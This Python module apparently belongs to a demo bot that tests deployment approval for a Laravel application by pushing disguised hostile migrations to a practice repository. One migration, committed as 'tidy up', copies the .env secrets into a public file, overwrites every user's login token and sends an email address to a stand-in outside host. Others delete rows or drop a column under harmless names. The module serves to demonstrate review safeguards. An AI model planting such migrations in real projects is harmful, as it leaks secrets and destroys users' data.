"""What somebody pushes, or leaves on the server, who wants something to run that nobody would approve."""

from __future__ import annotations

import asyncio
from pathlib import Path

from bot.demo.application.application import Application
from bot.demo.application.git import git
from bot.demo.errors import DemoError
from bot.demo.workspace import DEPLOY

BRANCH = "innocent"

_HOSTILE = """\
<?php

use Illuminate\\Database\\Migrations\\Migration;
use Illuminate\\Support\\Facades\\DB;

class TidyUp extends Migration
{{
    public function up()
    {{
        // A file in the live checkout, which serves the site.
        @file_put_contents('{path}/public/owned.txt', @file_get_contents('{path}/.env'));
        // Every live row, through a connection of its own.
        try {{
            $live = new PDO('mysql:host={host};port={port};dbname={name}', '{user}', env('DB_PASSWORD'));
            $live->exec("UPDATE users SET remember_token = 'owned'");
        }} catch (PDOException $refused) {{
        }}
        // What it learnt goes home.
        @file_get_contents('http://198.51.100.1/owned?' . DB::table('users')->value('email'));
    }}

    public function down()
    {{
    }}
}}
"""

_LOOP = """\
<?php

use Illuminate\\Database\\Migrations\\Migration;
use Illuminate\\Support\\Facades\\DB;

class ArchiveOldSessions extends Migration
{
    public function up()
    {
        foreach (DB::table('user_sessions')->where('id', '<=', 286)->get() as $session) {
            DB::table('user_sessions')->where('id', $session->id)->delete();
        }
    }

    public function down()
    {
    }
}
"""

_LEFT_BEHIND = """\
<?php

use Illuminate\\Database\\Migrations\\Migration;
use Illuminate\\Support\\Facades\\DB;

class Forgotten extends Migration
{
    public function up()
    {
        DB::statement('ALTER TABLE users DROP COLUMN email');
    }
}
"""

_FORGOTTEN = "2025_12_24_000000_forgotten.php"


class Cheating:
    """Tries to get something past the approvers.

    Args:
        application: that is attacked.
    """

    def __init__(self, application: Application) -> None:
        self._application = application
        self._one_at_a_time = asyncio.Lock()

    async def push_branch(self) -> str:
        """Push a branch that nobody merged, whose migration reaches for the live site.

        Returns:
            What was done, as a sentence; so do the others.

        Raises:
            DemoError: git failed, or there is nothing to do; so do the others.
        """
        application, database = self._application, self._application.database
        text = _HOSTILE.format(
            path=application.path, host=database.host, port=database.port, name=database.name, user=database.user
        )
        async with self._one_at_a_time:
            author = application.author
            await git(author, "checkout", "--quiet", "-B", BRANCH)
            try:
                await self._commit("2025_12_24_000001_tidy_up.php", text, "chore: tidy up")
                await git(author, "push", "--quiet", "--force", str(application.origin), f"HEAD:{BRANCH}")
            finally:
                await git(author, "checkout", "--quiet", "--force", "main")
        return (
            f"The branch {BRANCH} has one migration. It writes into the live checkout, changes every live row and "
            f"calls home, if it can. Type {DEPLOY} {BRANCH}, and see what the approvers see."
        )

    async def push_loop(self) -> str:
        """Push a migration to main that deletes rows one by one."""
        async with self._one_at_a_time:
            author = self._application.author
            number = await git(author, "rev-list", "--count", "HEAD")
            await self._commit(
                f"2025_12_24_0001{int(number):02}_archive_old_sessions.php", _LOOP, "feat: archive sessions"
            )
            await git(author, "push", "--quiet", str(self._application.origin), "HEAD:main")
        return f"A commit on main deletes 286 sessions, one by one; nothing in it looks like that. Type {DEPLOY}."

    async def leave_migration(self) -> str:
        """Leave a migration on the server that is in no commit."""
        file = self._application.path / "database" / "migrations" / _FORGOTTEN
        if file.exists():
            raise DemoError("It lies there already. Nothing was changed.")
        await asyncio.to_thread(_write, file, _LEFT_BEHIND)
        return (
            f"{_FORGOTTEN} lies on the server now, and in no commit: it drops users.email. A bare `artisan migrate` "
            f"would run it. Take another commit from the menu, and type {DEPLOY}."
        )

    async def take_away(self) -> str:
        """Remove that migration again."""
        file = self._application.path / "database" / "migrations" / _FORGOTTEN
        if not file.exists():
            raise DemoError("There is none. Nothing was changed.")
        await asyncio.to_thread(file.unlink)
        return f"{_FORGOTTEN} is gone again."

    async def _commit(self, file: str, text: str, message: str) -> None:
        author = self._application.author
        await asyncio.to_thread(_write, author / "database" / "migrations" / file, text)
        await git(author, "add", "--all")
        await git(author, "commit", "--quiet", "-m", message)


def _write(file: Path, text: str) -> None:
    file.write_text(text)
